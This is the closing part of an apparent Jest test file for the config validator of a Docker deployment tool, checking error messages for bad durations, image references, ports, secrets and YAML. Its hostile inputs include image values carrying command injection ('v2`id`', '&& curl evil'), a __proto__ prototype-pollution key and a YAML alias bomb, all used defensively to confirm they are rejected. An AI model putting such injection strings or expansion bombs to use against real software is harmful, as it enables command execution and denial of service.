      { pause: '-1s' },
      'input pause: "-1s" is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)',
    ],
    ['keep', { keep: '1000' }, 'input keep: 1000 is not a whole number from 0 to 100'],
    [
      'lock-timeout',
      { lockTimeout: '1y' },
      'input lock-timeout: "1y" is not a duration like "500ms", "2s" or "5m" (at most 7 days)',
    ],
    [
      'image',
      { image: 'Registry Example/web' },
      'input image: "Registry Example/web" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"',
    ],
    [
      'image',
      { image: 'sha256:abc' },
      'input image: "sha256:abc" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"',
    ],
    [
      'image',
      { image: 'v2`id`' },
      'input image: "v2`id`" is not an image reference like "registry.example.com/acme/web:v2", a tag like "v2" or a digest like "sha256:<64 hex digits>"',
    ],
  ])('input %s', (_name, overrides, message) => {
    expect(problemsOf(MINIMAL, { overrides })).toEqual([message]);
  });

  test('a tag input needs the repository from the file', () => {
    expect(problemsOf(minimalWith('image', undefined), { overrides: { image: 'v2' } })).toEqual([
      'image: is missing (expected a repository like "registry.example.com/acme/web" for the tag given in input image)',
    ]);
  });

  test('the CLI can name its flags in problems', () => {
    expect(problemsOf(MINIMAL, { overrides: { parallel: '0' }, inputName: (n) => `--${n}` })).toEqual([
      '--parallel: 0 is not a whole number from 1 to 1024',
    ]);
  });

  test("a missing secret is named, never its neighbours' values", () => {
    const text = minimalWith('container.secret-env', ['DATABASE_URL', 'API_TOKEN']);
    const problems = problemsOf(text, { env: { DATABASE_URL: 'postgres://u:hunter2@db/app', API_TOKEN: '' } });
    expect(problems).toEqual([
      `container.secret-env[1]: environment variable API_TOKEN is not set (expected its value in the step's env, e.g. API_TOKEN: \${{ secrets.API_TOKEN }})`,
    ]);
    expect(problems.join('\n')).not.toContain('hunter2');
  });

  test('secrets and TLS files are only resolved for the groups being deployed', () => {
    const text =
      MINIMAL +
      `  db:\n    hosts: [{docker: "tcp://10.0.0.9:2376", tls: {ca: DB_CA}}]\n    container: {secret-env: [DB_PASSWORD]}\n`;
    expect(load(text, { overrides: { groups: 'web' } }).groups.map((g) => g.name)).toEqual(['web']);
    expect(problemsOf(text)).toEqual([
      "groups.db.container.secret-env[0]: environment variable DB_PASSWORD is not set (expected its value in the step's env, e.g. DB_PASSWORD: ${{ secrets.DB_PASSWORD }})",
      'groups.db.hosts[0].tls.ca: environment variable DB_CA is not set (expected it to hold PEM text)',
    ]);
  });

  test('__proto__ is an ordinary (unknown) key, not a way into the prototype', () => {
    expect(problemsOf(MINIMAL + 'container:\n  __proto__: {restart: always}\n')).toEqual([
      'container.__proto__: is not a known field (expected one of: ports, env, secret-env, volumes, command, restart, stop-timeout, labels, network)',
    ]);
    expect(({} as Record<string, unknown>).restart).toBeUndefined();
  });

  test('variable names that exist on every object are still just names', () => {
    const config = load(MINIMAL + 'container:\n  env: {__proto__: x}\n  secret-env: [constructor]\n', {
      env: { constructor: 'c-value' },
    });
    expect(Object.keys(config.groups[0].container.env)).toEqual(['__proto__']);
    expect(config.groups[0].container.secretEnv).toEqual({ constructor: 'c-value' });
    expect(problemsOf(MINIMAL + 'container:\n  secret-env: [constructor, toString]\n', { env: {} })).toHaveLength(2);
  });

  test('duplicate hosts are found across groups', () => {
    const text = MINIMAL + '  worker:\n    hosts: [tcp://10.210.0.11:2375]\n';
    expect(problemsOf(text)).toEqual([
      'groups.worker.hosts[0]: "tcp://10.210.0.11:2375" is the same Docker endpoint as groups.web.hosts[0] (each host may appear once)',
    ]);
  });

  test.each([
    [
      'service: web\ngroups: [\n',
      'aviary.yml:3:1: Flow sequence in block collection must be sufficiently indented and end with a ]',
    ],
    ['service: web\nservice: api\n', 'aviary.yml:2:1: Map keys must be unique'],
    ['service: "web\n', 'aviary.yml:2:1: Missing closing "quote'],
    ['', 'config: "aviary.yml" is empty (expected a mapping with service, image and groups)'],
    ['- web\n', 'config: "aviary.yml" holds a list (expected a mapping with service, image and groups)'],
    ['? [a, b]\n: 1\n', 'aviary.yml:1:3: a key that is a list or a mapping (expected a plain name)'],
  ])('YAML %j', (text, message) => {
    expect(problemsOf(text)[0]).toBe(message);
  });

  test('an alias bomb is refused, not expanded', () => {
    const lines = ['a0: &a0 [x, x, x, x, x, x, x, x, x, x]'];
    for (let i = 1; i < 10; i++)
      lines.push(
        `a${i}: &a${i} [${Array(10)
          .fill(`*a${i - 1}`)
          .join(', ')}]`,
      );
    const problems = problemsOf(lines.join('\n') + '\n');
    expect(problems[0]).toMatch(/^aviary\.yml: expands to more than 100000 values/);
  });

  test('a missing file', () => {
    expect(() => loadConfig({ path: '/nonexistent/aviary.yml' })).toThrow(
      new InputError(
        'config: file "/nonexistent/aviary.yml" was not found (expected an aviary.yml; see examples/aviary.yml)',
      ),
    );
  });

  test('a file with many problems reports all of them at once', () => {
    const text = `
service: Web Service
image: "registry.example.com/acme/web:v1 && curl evil"
groups:
  web:
    hosts: [tcp://10.0.0.1, tcp://10.0.0.2:2375, tcp://10.0.0.2:2375]
  Jobs:
    hosts: []
container:
  ports: ["99999:80"]
  command: /app/server
  restart: sometimes
strategy:
  batches: [1, "25", "200%"]
  parallel: 0
  pause: -1s
health:
  http: {path: /health, port: 70000, body-regex: "(["}
  command: /bin/check
  interval: 1
lock-timeout: forever
colour: blue
`;
    const problems = problemsOf(text, { overrides: { groups: 'web,db', batches: '1,x' } });
    expect(problems).toEqual([
      'colour: is not a known field (expected one of: service, image, groups, container, strategy, health, lock-timeout, lock-wait, gates, hooks, availability, metrics-url, proxy)',
      'service: "Web Service" is not a service name like "web" (lowercase letters, digits, ".", "_" and "-"; at most 63 characters)',
      'image: "registry.example.com/acme/web:v1 && curl evil" is not an image reference like "registry.example.com/acme/web" or "registry.example.com/acme/web:v2" (lowercase repository, no spaces)',
      'groups.web.hosts[0]: "tcp://10.0.0.1" is not a tcp endpoint with a host and a port, like "tcp://10.0.0.1:2375"',
      'groups.Jobs: "Jobs" is not a group name like "web" (lowercase letters, digits, "_" and "-"; at most 63 characters)',
      'groups.Jobs.hosts: [] is not a list of hosts like [tcp://10.0.0.1:2375, ssh://deploy@web-2.example.com] (a group needs at least one host)',
      'groups.web.hosts[2]: "tcp://10.0.0.2:2375" is the same Docker endpoint as groups.web.hosts[1] (each host may appear once)',
      'container.ports[0]: "99999:80" is not a port mapping like "8080:8080", "127.0.0.1:80:8080" or "53/udp" (ports are numbers from 1 to 65535, ranges low-high)',
      'container.command: "/app/server" is not a list of strings like ["/app/server", "--port", "8080"] (no shell runs it: write each argument as its own item)',
      'container.restart: "sometimes" is not one of no, always, unless-stopped, on-failure',
      'strategy.batches[1]: "25" is not a count or a percentage like "25%"',
      'strategy.batches[2]: "200%" is not a percentage above 0% and at most 100%',
      'strategy.pause: "-1s" is not a duration like "500ms", "2s" or "5m" (at most 7 days; 0 for none)',
      'strategy.parallel: 0 is not a whole number from 1 to 1024',
      'health.http.port: 70000 is not a port number from 1 to 65535',
      'health.http.body-regex: "([" is not a valid regular expression (Invalid regular expression: /([/: Unterminated character class)',
      'health.command: "/bin/check" is not a list of strings like ["/bin/check"] (no shell runs it: write each argument as its own item)',
      'health.interval: 1 is not a duration like "500ms", "2s" or "5m" (at most 7 days)',
      'lock-timeout: "forever" is not a duration like "500ms", "2s" or "5m" (at most 7 days)',
      'input batches[1]: "x" is not a count or a percentage like "25%"',
      'input groups: "db" is not a group in the config (known: web, "Jobs")',
    ]);
  });
});
